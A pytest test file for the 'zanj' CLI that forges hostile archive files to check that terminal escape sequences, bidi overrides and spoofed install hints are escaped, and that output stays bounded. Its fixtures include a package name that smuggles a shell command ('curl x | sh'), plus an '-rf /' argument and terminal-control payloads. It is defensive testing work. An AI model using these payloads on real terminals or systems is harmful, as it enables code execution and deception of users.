"""The `zanj` command on files made to attack the terminal, the user or the reader itself.

Every string a file holds (keys, tags, member names, class names, metadata, values, error
text quoting them) must reach the terminal escaped and cut; install hints must never turn the
file's words into a command; every failure is one line; output stays bounded; `verify` tells
corrupt, plugin-missing and loader-failed files apart by their exit status.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from dataclass_defs import BasicZanj
from hostile_corpus import CASES, Case, flip_data_byte

from zanj_core import ZANJ, verify_file
from zanj_core._container.reader import ArchiveReader
from zanj_core._contract.nodes import FORMAT_KEY
from zanj_core._contract.records import LoaderHandler
from zanj_core._contract.textsafe import ELLIPSIS, escape_char, quoted, safe_lines, safe_text
from zanj_core._tools.cli import main
from zanj_core._tools.cmd_ls import LIST_LIMIT
from zanj_core._tools.exits import (
    EXIT_ERROR,
    EXIT_INTERRUPTED,
    EXIT_LOAD_FAILED,
    EXIT_MISSING_PLUGIN,
    EXIT_OK,
)
from zanj_core._walk.hints import PROJECT_DISTRIBUTIONS
from zanj_core._walk.loading import LoadContext
from zanj_core._walk.registry import REGISTRY

ESC_CLEAR = "\x1b[2J"
OSC_TITLE = "\x1b]0;title\x07"
RLO = "\u202e"
LONE = "\ud800"
NASTY = [ESC_CLEAR, OSC_TITLE, "\r", "\b", RLO, "\x00", "\x9b", LONE, "\u2028", "\u200b"]
"""Each must be escaped wherever a file puts it."""
NASTY_TEXT = "".join(NASTY)
EVIL_DIST = "zanj-numpy; curl x | sh"
EVIL_VERSION = "\x1b]0;pwned\x07"
UNSAFE = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def unsafe_chars(text: str) -> list[tuple[int, str]]:
    """Characters a terminal may act on: every control but newline, format chars, surrogates."""
    return [(i, c) for i, c in enumerate(text) if c != "\n" and unicodedata.category(c) in UNSAFE]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert not unsafe_chars(out + err), (argv, unsafe_chars(out + err)[:5], out[-2000:], err[-2000:])
    assert "Traceback" not in out + err, (argv, err)
    return code, out, err


def rewrite(path: Path, main_json: Any = None, meta: Any = None, renames: dict[str, str] | None = None) -> None:
    """Rewrite a saved file's JSON members (and the names of some members) in place, keeping
    every other member's bytes: a real file with forged JSON, as an attacker would make it."""
    renames = renames or {}
    with zipfile.ZipFile(path) as zf:
        members = [(info, zf.read(info)) for info in zf.infolist()]
    with zipfile.ZipFile(path, "w") as zf:
        for info, data in members:
            if info.filename == "__zanj__.json" and main_json is not None:
                data = json.dumps(main_json).encode()  # ensure_ascii: lone surrogates as \ud800
            elif info.filename == "__zanj_meta__.json" and meta is not None:
                data = json.dumps(meta).encode()
            zf.writestr(renames.get(info.filename, info.filename), data, compress_type=info.compress_type)


def read_json(path: Path, member: str) -> Any:
    with zipfile.ZipFile(path) as zf:
        return json.loads(zf.read(member))


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A real file whose every string is hostile: keys, values, tags, a member name, a class
    name, the writer, the settings, the plugins table (a command as the dist, an OSC as version)."""
    path = tmp_path / "hostile.zanj"
    ZANJ().save({"blob": bytes(range(256)) * 4, "long": list(range(400)), "plain": 1}, path)
    tree = read_json(path, "__zanj__.json")
    meta = read_json(path, "__zanj_meta__.json")
    evil_member = f"blob{RLO}\x9b\u2028.bin"  # C0 controls in a member name make the reader refuse the file
    tree["blob"]["$ref"] = evil_member
    widget_tag = f"acme{ESC_CLEAR}{RLO}.Widget"
    tree["widget"] = {FORMAT_KEY: widget_tag, "size": 3}
    tree["known"] = {FORMAT_KEY: f"numpy.{OSC_TITLE}", "x": 1}
    tree["dc"] = {
        FORMAT_KEY: f"Evil{ESC_CLEAR}{RLO}(SerializableDataclass)",
        "__zanj_class__": f"evil{OSC_TITLE}:Cls\r",
        f"field{ESC_CLEAR}": NASTY_TEXT,
    }
    tree["keys"] = {f"k{ch}": f"v{ch}" for ch in NASTY} | {NASTY_TEXT: [NASTY_TEXT, {NASTY_TEXT: NASTY_TEXT}]}
    tree["s"] = NASTY_TEXT * 3
    meta["writer"] = {"dist": ESC_CLEAR + "zanj-core", "version": RLO + "1.0", "python": "\x9b3.11" + LONE}
    meta["zanj_cfg"] = {f"cfg{ESC_CLEAR}": "\r\b", "x": NASTY_TEXT}
    meta["plugins"] = {
        **meta["plugins"],
        widget_tag: {"dist": EVIL_DIST, "version": EVIL_VERSION},
        f"numpy.{OSC_TITLE}": {"dist": f"zanj-numpy{ESC_CLEAR}", "version": "1.0"},
    }
    meta[f"extra{OSC_TITLE}"] = NASTY_TEXT
    rewrite(path, tree, meta, {"blob.bin": evil_member})
    return path


# -- textsafe ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain text ünïcødé 漢字 🙂", "plain text ünïcødé 漢字 🙂"),
        (ESC_CLEAR, "\\x1b[2J"),
        (OSC_TITLE, "\\x1b]0;title\\x07"),
        ("a\rb\bc\nd\te\x00", "a\\rb\\x08c\\nd\\te\\x00"),
        ("\x7f\x9b\x85", "\\x7f\\x9b\\x85"),
        (f"{RLO}evil\u2066\u200b\ufeff", "\\u202eevil\\u2066\\u200b\\ufeff"),
        ("\u2028\u2029", "\\u2028\\u2029"),
        (LONE + "x\udfff", "\\ud800x\\udfff"),
        ("\U000e0001", "\\U000e0001"),
        ("\u00a0nbsp stays", "\u00a0nbsp stays"),
    ],
)
def test_safe_text_escapes_what_a_terminal_would_act_on(raw: str, shown: str) -> None:
    assert safe_text(raw) == shown
    assert not unsafe_chars(safe_text(raw))


def test_safe_text_cuts_long_text_never_inside_an_escape() -> None:
    assert safe_text("x" * 10, 10) == "x" * 10
    assert safe_text("x" * 11, 10) == "x" * 9 + ELLIPSIS
    assert safe_text("x" * 10_000_000, 50) == "x" * 49 + ELLIPSIS  # looks at 51 characters only
    cut = safe_text("ab" + ESC_CLEAR * 5, 10)
    assert cut == "ab\\x1b[2J" + ELLIPSIS and len(cut) <= 10
    for limit in range(1, 30):
        text = safe_text(NASTY_TEXT * 3, limit)
        assert len(text) <= limit and not unsafe_chars(text)
        assert not text.rstrip(ELLIPSIS).endswith("\\")  # an escape is whole or absent
    assert safe_text("y" * 500, None) == "y" * 500
    with pytest.raises(ValueError, match="at least 1"):
        safe_text("x", 0)
    with pytest.raises(TypeError, match="takes a str"):
        safe_text(b"x", 5)  # type: ignore[arg-type]


def test_safe_lines_keeps_line_breaks_only() -> None:
    assert safe_lines(f"a{ESC_CLEAR}\nb\r\n") == "a\\x1b[2J\nb\\r\n"
    assert safe_lines("abcdef\nxy", width=4) == f"abc{ELLIPSIS}\nxy"


def test_quoted_shows_text_as_bounded_data() -> None:
    assert quoted(EVIL_DIST) == repr(EVIL_DIST)
    assert quoted("q" * 100, 10) == repr("q" * 10) + ELLIPSIS
    assert not unsafe_chars(quoted(NASTY_TEXT))
    assert escape_char("\x1b") == "\\x1b" and escape_char(RLO) == "\\u202e"


# -- every command on the hostile file -----------------------------------------------------------


COMMANDS: list[tuple[str, ...]] = [
    ("ls",),
    ("ls", "--members"),
    ("ls", "--json"),
    ("ls", "keys"),
    ("show", ""),
    ("show", "keys"),
    ("show", "s"),
    ("show", "dc"),
    ("show", "widget"),
    ("show", "blob"),
    ("show", "nope"),
    ("meta",),
    ("meta", "--json"),
    ("verify",),
    ("verify", "--json"),
    ("verify", "--load"),
    ("verify", "--load", "--json"),
]


@pytest.mark.parametrize("argv", COMMANDS, ids=" ".join)
def test_no_raw_control_character_reaches_the_terminal(
    hostile: Path, argv: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    command, *rest = argv
    code, out, err = run(capsys, command, str(hostile), *rest)  # `run` checks every character
    assert code in (EXIT_OK, EXIT_ERROR, EXIT_MISSING_PLUGIN, EXIT_LOAD_FAILED)
    assert out or err
    if "--json" in argv:
        json.loads(out)  # still valid JSON, and pure ASCII
        assert out.isascii()


def test_escaped_forms_are_shown(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "ls", str(hostile))
    assert "k\\x1b[2J" in out and "k\\u202e" in out and "k\\ud800" in out and "k\\x9b" in out
    assert "acme\\x1b[2J\\u202e.Widget" in out and "blob\\u202e\\x9b\\u2028.bin" in out
    _, out, _ = run(capsys, "show", str(hostile), "s")
    assert "\\x1b[2J" in out and "\\x1b]0;title\\x07" in out and "\\u202e" in out
    _, out, _ = run(capsys, "show", str(hostile), "dc")
    assert "Evil\\x1b[2J\\u202e(SerializableDataclass)" in out and "field\\x1b[2J" in out
    _, out, _ = run(capsys, "meta", str(hostile))
    assert "\\x1b[2Jzanj-core \\u202e1.0, Python \\x9b3.11\\ud800" in out
    assert "cfg\\x1b[2J" in out and "extra\\x1b]0;title\\x07" in out
    _, out, _ = run(capsys, "verify", str(hostile))
    assert "acme\\x1b[2J\\u202e.Widget" in out


def test_the_pip_hint_never_carries_the_files_words(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outputs = [run(capsys, command, str(hostile), *rest) for command, *rest in COMMANDS]
    text = "\n".join(out + err for _, out, err in outputs)
    assert "written by a package named 'zanj-numpy; curl x | sh' (unverified" in text
    installed = {info.source.distribution for info in REGISTRY.plugins}
    commands = re.findall(r"pip install((?: --[a-z-]+)*) (\S+)", text)
    assert commands and all(name.rstrip(".;,") in PROJECT_DISTRIBUTIONS | installed for _, name in commands), commands
    hints = "\n".join(
        out + err for (_, out, err), argv in zip(outputs, COMMANDS, strict=True) if argv[0] in ("ls", "verify", "show")
    )
    assert "pwned" not in hints and "written by a package named" in hints  # a version that is no version is left out
    # a known tag prefix gives the known distribution, however the file spells the dist
    assert (
        "install it with: pip install zanj-numpy (the file says it was written by a package named "
        "'zanj-numpy\\x1b[2J', version 1.0, unverified)" in text
    )


def _hint(meta: dict[str, Any], tag: str) -> str:
    return LoadContext(ZANJ(), None, meta).install_hint(tag)


@pytest.mark.parametrize(
    ("dist", "version", "expected"),
    [
        (EVIL_DIST, "1.0", "written by a package named 'zanj-numpy; curl x | sh', version 1.0 (unverified"),
        ("zanj-evil", "2", "written by a package named 'zanj-evil', version 2 (unverified"),
        ("zanj-evil", EVIL_VERSION, "written by a package named 'zanj-evil' (unverified"),
        ("-rf /", None, "written by a package named '-rf /' (unverified"),
        ("x" * 500, None, f"named {quoted('x' * 500, 60)} (unverified"),
        (123, None, "does not say which package"),
        ("<runtime>", None, "register a LoaderHandler"),
    ],
)
def test_install_hint_quotes_unvouched_names(dist: Any, version: Any, expected: str) -> None:
    entry = {"dist": dist} if version is None else {"dist": dist, "version": version}
    hint = _hint({"plugins": {"acme.Widget": entry}}, "acme.Widget")
    assert expected in hint and "pip install" not in hint and not unsafe_chars(hint)


def test_install_hint_names_known_and_installed_plugins_as_this_reader_spells_them() -> None:
    # known to the core, whatever the file's spelling: the command is the core's own text
    hint = _hint({"plugins": {"acme.X": {"dist": "ZANJ_Torch", "version": "2.1.0"}}}, "acme.X")
    assert "pip install" in hint and "zanj-torch" in hint and "ZANJ_Torch" not in hint and "2.1.0" in hint
    # an installed plugin (zanj-core itself here) may be named too
    hint = _hint({"plugins": {"acme.Y": {"dist": "zanj.core", "version": "9"}}}, "acme.Y")
    assert "zanj-core is installed but has no loader for it; upgrade it: pip install --upgrade zanj-core" in hint
    # no table: the known prefixes
    assert _hint({}, "pandas.DataFrame:weird") == "install it with: pip install zanj-pandas"


def test_a_console_script_run_prints_escapes_only(hostile: Path) -> None:
    """Through a real pipe and encoder: lone surrogates must not crash the write."""
    for argv in (["ls", str(hostile)], ["show", str(hostile), "keys"], ["meta", str(hostile)]):
        result = subprocess.run(
            [sys.executable, "-m", "zanj_core", *argv],
            capture_output=True,
            check=False,
            env={"PYTHONIOENCODING": "utf-8"},
        )
        text = result.stdout.decode("utf-8") + result.stderr.decode("utf-8")
        assert result.returncode == 0, text
        assert not unsafe_chars(text) and "Traceback" not in text and "\\ud800" in text


def test_non_utf8_stdout_gets_escapes_not_an_encoding_error(hostile: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "zanj_core", "ls", str(hostile)],
        capture_output=True,
        check=False,
        env={"PYTHONIOENCODING": "ascii"},
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.isascii() and b"Traceback" not in result.stderr


# -- verify's three outcomes ---------------------------------------------------------------------


@pytest.fixture
def good(tmp_path: Path) -> Path:
    path = tmp_path / "good.zanj"
    ZANJ().save({"blob": bytes(range(256)) * 4, "basic": BasicZanj("hi", 3, [1]), "n": 1}, path)
    return path


def _with_unknown_tag(path: Path) -> Path:
    tree = read_json(path, "__zanj__.json")
    tree["widget"] = {FORMAT_KEY: "acme.Widget", "size": 3}
    rewrite(path, tree)
    return path


def _with_a_dataclass_missing_a_field(path: Path) -> Path:
    tree = read_json(path, "__zanj__.json")
    del tree["basic"]["a"]  # BasicZanj.a has no default: the class cannot be built
    rewrite(path, tree)
    return path


def test_verify_ok_exits_0(good: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for extra in ((), ("--load",)):
        code, out, _ = run(capsys, "verify", str(good), *extra)
        assert code == EXIT_OK and out.startswith("OK")
    code, out, _ = run(capsys, "verify", str(good), "--json")
    assert code == EXIT_OK and json.loads(out)["status"] == "ok"


def test_verify_corrupt_exits_1(good: Path, capsys: pytest.CaptureFixture[str]) -> None:
    flip_data_byte(good, "blob.bin")
    code, out, _ = run(capsys, "verify", str(good))
    assert code == EXIT_ERROR and out.startswith("FAILED (corrupt)") and "  corrupt: member 'blob.bin' is bad" in out
    code, out, _ = run(capsys, "verify", str(good), "--json")
    report = json.loads(out)
    assert code == EXIT_ERROR and report["status"] == "corrupt" and report["problems"][0]["kind"] == "corrupt"


def test_verify_missing_plugin_exits_3(good: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _with_unknown_tag(good)
    for extra in ((), ("--load",)):
        code, out, _ = run(capsys, "verify", str(good), *extra)
        assert code == EXIT_MISSING_PLUGIN and out.startswith("FAILED (plugin missing)")
        assert "  missing plugin: no loader installed for format 'acme.Widget' (at widget)" in out
    code, out, _ = run(capsys, "verify", str(good), "--load", "--json")
    report = json.loads(out)
    assert report["status"] == "missing_plugin" and [p["kind"] for p in report["problems"]] == ["missing_plugin"]
    assert report["items_loaded"] == 2  # blob and basic still load


def test_verify_load_failed_exits_4(good: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _with_a_dataclass_missing_a_field(good)
    code, out, _ = run(capsys, "verify", str(good))
    assert code == EXIT_OK  # every byte checks out, and each tag has a loader
    code, out, _ = run(capsys, "verify", str(good), "--load")
    assert code == EXIT_LOAD_FAILED and out.startswith("FAILED (a loader failed)")
    assert "  load failed: item at basic does not load" in out and "cannot construct" in out
    code, out, _ = run(capsys, "verify", str(good), "--load", "--json")
    report = json.loads(out)
    assert report["status"] == "load_failed" and report["problems"][0]["kind"] == "load_failed"


@pytest.fixture
def exploding_loader() -> Iterator[str]:
    """A registered loader whose load raises (for one tag), and one that warns (another)."""

    def explode(node: Any, path: Any, ctx: Any) -> Any:
        raise RuntimeError(f"boom {ESC_CLEAR}")

    def grumble(node: Any, path: Any, ctx: Any) -> Any:
        import warnings

        warnings.warn("this item is odd", UserWarning, stacklevel=1)
        return node.get("x")

    handlers = [
        LoaderHandler(tag="test.Explodes", load=explode, description="raises"),
        LoaderHandler(tag="test.Warns", load=grumble, description="warns"),
    ]
    for handler in handlers:
        REGISTRY.register(handler)
    try:
        yield "test.Explodes"
    finally:
        for handler in handlers:
            REGISTRY.unregister(handler)


def test_verify_load_runs_every_loader_with_warnings_as_errors(
    good: Path, exploding_loader: str, capsys: pytest.CaptureFixture[str]
) -> None:
    tree = read_json(good, "__zanj__.json")
    tree["boom"] = {"inner": {FORMAT_KEY: exploding_loader, "x": 1}}  # no member: loaded all the same
    tree["odd"] = {FORMAT_KEY: "test.Warns", "x": 2}
    rewrite(good, tree)
    assert run(capsys, "verify", str(good))[0] == EXIT_OK
    code, out, _ = run(capsys, "verify", str(good), "--load")
    assert code == EXIT_LOAD_FAILED
    assert "load failed: item at boom/inner does not load" in out and "RuntimeError: boom \\x1b[2J" in out
    assert "load failed: item at odd warns while loading: UserWarning: this item is odd" in out
    report = verify_file(good, load=True)
    assert report.status == "load_failed" and {p.kind for p in report.problems} == {"load_failed"}
    assert report.items_loaded == 2  # blob and basic


def test_verify_status_is_the_worst_problem(
    good: Path, exploding_loader: str, capsys: pytest.CaptureFixture[str]
) -> None:
    tree = read_json(good, "__zanj__.json")
    tree["boom"] = {FORMAT_KEY: exploding_loader}
    tree["widget"] = {FORMAT_KEY: "acme.Widget"}
    rewrite(good, tree)
    code, out, _ = run(capsys, "verify", str(good), "--load")
    assert code == EXIT_LOAD_FAILED and "missing plugin:" in out and "load failed:" in out  # 4 beats 3
    flip_data_byte(good, "blob.bin")
    code, out, _ = run(capsys, "verify", str(good), "--load")
    assert code == EXIT_ERROR and out.startswith("FAILED (corrupt)")  # corrupt beats both
    kinds = [p["kind"] for p in json.loads(run(capsys, "verify", str(good), "--load", "--json")[1])["problems"]]
    assert sorted(set(kinds)) == ["corrupt", "load_failed", "missing_plugin"]


def test_verify_loads_what_a_class_not_defined_here_holds(tmp_path: Path) -> None:
    """A dataclass whose class the verifier lacks is no fault of the file: its fields load instead."""
    path = tmp_path / "undefined.zanj"
    ZANJ().save({"n": 1}, path)
    tree = read_json(path, "__zanj__.json")
    tree["thing"] = {
        FORMAT_KEY: "Nowhere(SerializableDataclass)",
        "__zanj_class__": "nowhere:Nowhere",
        "when": {FORMAT_KEY: "datetime.date", "iso": "2026-01-02"},
        "bad": {FORMAT_KEY: "datetime.date", "iso": "not a date"},
    }
    rewrite(path, tree)
    report = verify_file(path, load=True)
    assert report.status == "load_failed" and report.items_loaded == 1
    assert [p.path for p in report.problems] == [("thing", "bad")]
    assert any("class this program does not define" in note for note in report.notes)


# -- every failure is one line -------------------------------------------------------------------


BAD_FILE_CASES = [case for case in CASES if not case.needs and "bomb" not in case.name]


@pytest.mark.parametrize("case", BAD_FILE_CASES, ids=lambda c: c.name)
def test_a_bad_file_fails_in_one_line(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / f"{case.name}.zanj"
    path.write_bytes(case.build(tmp_path))
    for argv in (["ls", str(path)], ["show", str(path), ""], ["meta", str(path)], ["verify", str(path), "--load"]):
        code, _, err = run(capsys, *argv)
        assert code in (EXIT_OK, EXIT_ERROR, EXIT_MISSING_PLUGIN, EXIT_LOAD_FAILED), (argv, code)
        errors = [line for line in err.splitlines() if line.startswith("zanj: error:")]
        assert all(line.startswith(("zanj: error:", "zanj: warning:")) for line in err.splitlines()), err
        assert len(errors) <= 1 and (code == EXIT_OK or argv[0] == "verify" or len(errors) == 1), (argv, err)
        assert all(len(line) <= 1100 for line in err.splitlines())


@pytest.mark.parametrize(
    ("exc", "code", "words"),
    [
        (MemoryError(), EXIT_ERROR, "zanj: error: out of memory"),
        (RecursionError("maximum recursion depth exceeded"), EXIT_ERROR, "zanj: error: the data is nested too deeply"),
        (KeyboardInterrupt(), EXIT_INTERRUPTED, "zanj: error: interrupted"),
        (OSError(5, "Input/output error"), EXIT_ERROR, "zanj: error: OSError: [Errno 5] Input/output error"),
        (
            RuntimeError(f"bad {ESC_CLEAR}\nsecond line" + "z" * 5000),
            EXIT_ERROR,
            "zanj: error: RuntimeError: bad \\x1b[2J\\nsecond",
        ),
    ],
)
def test_any_exception_is_one_line(
    exc: BaseException,
    code: int,
    words: str,
    good: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    def fail(*args: Any, **kwargs: Any) -> Any:
        raise exc

    monkeypatch.delenv("ZANJ_TRACEBACK", raising=False)
    monkeypatch.setattr(ZANJ, "open", fail)
    got, out, err = run(capsys, "ls", str(good))
    assert got == code and out == "" and err.startswith(words) and err.count("\n") == 1 and len(err) < 1100


def test_zanj_traceback_shows_the_traceback_escaped(
    good: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError(f"deep {ESC_CLEAR}")

    monkeypatch.setattr(ZANJ, "open", fail)
    monkeypatch.setenv("ZANJ_TRACEBACK", "1")
    code = main(["ls", str(good)])
    err = capsys.readouterr().err
    assert code == EXIT_ERROR and "Traceback" in err and not unsafe_chars(err)
    assert err.splitlines()[-1] == "zanj: error: RuntimeError: deep \\x1b[2J"


def test_a_failing_console_script_prints_no_traceback(tmp_path: Path) -> None:
    junk = tmp_path / "junk.zanj"
    junk.write_bytes(b"PK\x05\x06" + b"\x00" * 18 + ESC_CLEAR.encode())
    for argv in (["ls", str(junk)], ["show", str(junk), "x"], ["verify", str(junk)], ["ls", str(tmp_path)]):
        result = subprocess.run([sys.executable, "-m", "zanj_core", *argv], capture_output=True, text=True, check=False)
        assert result.returncode == EXIT_ERROR and result.stdout.startswith("FAILED") == (argv[0] == "verify")
        assert "Traceback" not in result.stderr and not unsafe_chars(result.stdout + result.stderr)
        assert len(result.stderr.splitlines()) == (0 if argv[0] == "verify" else 1), result.stderr


# -- bounded output ------------------------------------------------------------------------------


def test_show_of_a_wide_array_fits_80_columns(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    np = pytest.importorskip("numpy")
    pytest.importorskip("zanj_numpy")
    monkeypatch.setenv("COLUMNS", "80")
    path = ZANJ().save({"wide": np.arange(1_000_000, dtype=np.int64).reshape(10, 100_000)}, tmp_path / "w.zanj")
    for argv in (["show", path, "wide"], ["show", path, "wide", "--rows", "1"], ["show", path, ""]):
        code, out, _ = run(capsys, *argv)
        assert code == EXIT_OK and all(len(line) <= 80 for line in out.splitlines()), out
    code, out, _ = run(capsys, "show", path, "wide")
    assert "first 3 of 10 rows" in out and "last 3 rows" in out
    # the first and last values of the first and last rows shown are all there
    for value in ("[[     0,", "99999]", "[700000,", "999999]]"):
        assert value in out.replace("  ", " ").replace("[ ", "[") or value in out, (value, out)


def test_show_cuts_long_strings_and_long_containers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("COLUMNS", "100")
    value = {"s": "x" * 1_000_000, "l": list(range(100_000)), "nested": [[[["deep"] * 3]]], "k" * 5000: 1}
    path = ZANJ().save(value, tmp_path / "long.zanj")
    code, out, _ = run(capsys, "show", path, "")
    lines = out.splitlines()
    assert code == EXIT_OK and len(lines) <= 103 and all(len(line) <= 100 for line in lines)
    code, out, _ = run(capsys, "show", path, "s", "--max-lines", "1000")
    assert code == EXIT_OK and out.count("\n") == 2 and len(out) < 300 and out.endswith(f"{ELLIPSIS}\n")
    code, out, _ = run(capsys, "show", path, "l", "--max-lines", "2000")
    assert code == EXIT_OK and f"{ELLIPSIS} 99000 more]" in out and len(out.splitlines()) < 200
    code, out, _ = run(capsys, "show", path, "l", "--max-lines", "0")
    assert code == EXIT_OK and "99999]" in out  # 0: everything, whole


def test_ls_lists_a_bounded_number_of_lines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = ZANJ().save({"many": {f"k{i}": i for i in range(3000)}, "long": list(range(5000))}, tmp_path / "m.zanj")
    code, out, _ = run(capsys, "ls", path)
    lines = out.splitlines()
    assert code == EXIT_OK and len(lines) == LIST_LIMIT + 1
    assert lines[-1] == f"... {3003 - LIST_LIMIT} more items (use --limit 0 for all)"  # the root, many, its 3000, long
    code, out, _ = run(capsys, "ls", path, "--members")
    lines = out.splitlines()
    assert len(lines) == LIST_LIMIT + 1 and lines[-1] == f"... {8003 - LIST_LIMIT} more items (use --limit 0 for all)"
    code, out, _ = run(capsys, "ls", path, "--members", "--limit", "0")
    assert len(out.splitlines()) == 8003  # the root, many, long and their 8000 items
    code, out, _ = run(capsys, "ls", path, "--limit", "5")
    assert len(out.splitlines()) == 6 and out.splitlines()[-1].startswith("... 2998 more items")
    code, out, err = run(capsys, "ls", path, "--json", "--limit", "5")
    assert len(json.loads(out)) == 5 and "zanj: warning: ... 2998 more items were not listed" in err
    with pytest.raises(SystemExit) as info:
        main(["ls", path, "--limit", "-1"])
    assert info.value.code == 2


def test_ls_cuts_huge_keys_and_values(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = ZANJ().save({"k" * 100_000: "v" * 100_000, "plain": "x"}, tmp_path / "big.zanj")
    code, out, _ = run(capsys, "ls", path)
    assert code == EXIT_OK and max(len(line) for line in out.splitlines()) < 400 and ELLIPSIS in out


# -- one budget per command ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [("ls",), ("ls", "--members"), ("show", ""), ("show", "basic"), ("show", "blob"), ("meta",), ("verify", "--load")],
    ids=" ".join,
)
def test_each_command_reads_under_one_budget(
    good: Path, argv: tuple[str, ...], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    made: list[object] = []
    original = ArchiveReader.new_budget

    def counting(self: ArchiveReader) -> Any:
        budget = original(self)
        made.append(budget)
        return budget

    monkeypatch.setattr(ArchiveReader, "new_budget", counting)
    command, *rest = argv
    code, _, _ = run(capsys, command, str(good), *rest)
    assert code == EXIT_OK and len(made) == 1


def test_show_of_a_class_not_defined_here_charges_every_field_to_one_budget(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A dataclass of 400 fields all naming one 1 MiB member: each field alone is cheap, all of
    them together pass a budget that one read of the member fits in."""
    from zanj_core._container.limits import ReadLimits

    path = ZANJ().save({"blob": bytes(1 << 20)}, tmp_path / "amp.zanj")
    tree = read_json(path, "__zanj__.json")
    node = tree["blob"]
    tree["thing"] = {FORMAT_KEY: "Nowhere(SerializableDataclass)", **{f"f{i}": node for i in range(400)}}
    rewrite(path, tree)
    monkeypatch.setattr(ReadLimits, "read_budget", lambda self, size: 64 << 20)
    code, out, err = run(capsys, "show", str(path), "thing")
    assert code == EXIT_ERROR and out == "" and "budget" in err and err.count("\n") == 1


def test_show_of_frames_and_tensors_escapes_cells_and_fits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    pd = pytest.importorskip("pandas")
    torch = pytest.importorskip("torch")
    pytest.importorskip("zanj_pandas")
    pytest.importorskip("zanj_torch")
    monkeypatch.setenv("COLUMNS", "80")
    frame = pd.DataFrame({f"col{ESC_CLEAR}": [f"cell{OSC_TITLE}{RLO}", "x" * 500], "n": [1, 2]})
    wide = torch.arange(2_000_000, dtype=torch.int64).reshape(4, 500_000)
    path = ZANJ().save({"frame": frame, "wide": wide, "small": torch.arange(3)}, tmp_path / "ft.zanj")
    code, out, _ = run(capsys, "show", path, "frame")
    assert code == EXIT_OK and "col\\x1b[2J" in out and "cell\\x1b]0;title\\x07\\u202e" in out
    assert all(len(line) <= 80 for line in out.splitlines())
    before = dict(vars(torch._tensor_str.PRINT_OPTS))
    code, out, _ = run(capsys, "show", path, "wide", "--rows", "1")
    assert code == EXIT_OK and all(len(line) <= 80 for line in out.splitlines()), out
    assert "first 1 of 4 rows" in out and "499999" in out and "1500000" in out and "1999999" in out
    assert dict(vars(torch._tensor_str.PRINT_OPTS)) == before  # torch's options are put back


def test_meta_cuts_a_long_distribution_name_from_the_file(good: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A name that looks like a project name but runs to 200,000 characters is cut like any other
    string from the file, not printed whole."""
    meta = read_json(good, "__zanj_meta__.json")
    for entry in meta["plugins"].values():
        entry["dist"] = "z" * 200_000
    rewrite(good, meta=meta)
    code, out, err = run(capsys, "meta", str(good))
    assert code == 0
    assert max(len(line) for line in (out + err).splitlines()) < 1000


def test_json_output_cuts_long_strings_from_the_file(good: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--json is for scripts, but a 1 MB tag still must not become 1 MB of output."""
    tree = read_json(good, "__zanj__.json")
    tree["n"] = {"__muutils_format__": "x" * 1_000_000}
    rewrite(good, main_json=tree)
    code, out, _err = run(capsys, "ls", str(good), "--json")
    assert code == 0 and len(out) < 100_000
    assert json.loads(out)  # still valid JSON


SPOOF = "MISSING PLUGIN: install it with: pip install zanj-nunpy"


def test_tags_and_keys_that_read_like_zanjs_own_words_are_shown_quoted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by an outside attacker: a tag or key holding spaces was printed bare in the `ls`
    and `show` columns, so a file could print a line that reads like zanj's own install hint.
    Tags, keys and paths that are not plain ASCII words are now quoted as data."""
    path = tmp_path / "spoof.zanj"
    ZANJ().save({"weights": 1, "plain_key": 2}, path)
    rewrite(path, {"weights": {FORMAT_KEY: f"x.Frac  {SPOOF}"}, f"w  {SPOOF}": 1, "plain_key": 2})
    code, out, _ = run(capsys, "ls", str(path))
    assert code == 0
    for line in out.splitlines():
        if SPOOF in line:  # the file's text appears only inside quotes
            before = line[: line.index(SPOOF)]
            assert before.count("'") % 2 == 1, line
    assert re.search(r"^  plain_key\s", out, re.M)  # plain words stay bare
    code, out, _ = run(capsys, "show", str(path), "weights")
    header = out.splitlines()[0]
    assert header.startswith("weights  'x.Frac  MISSING PLUGIN") and SPOOF in header
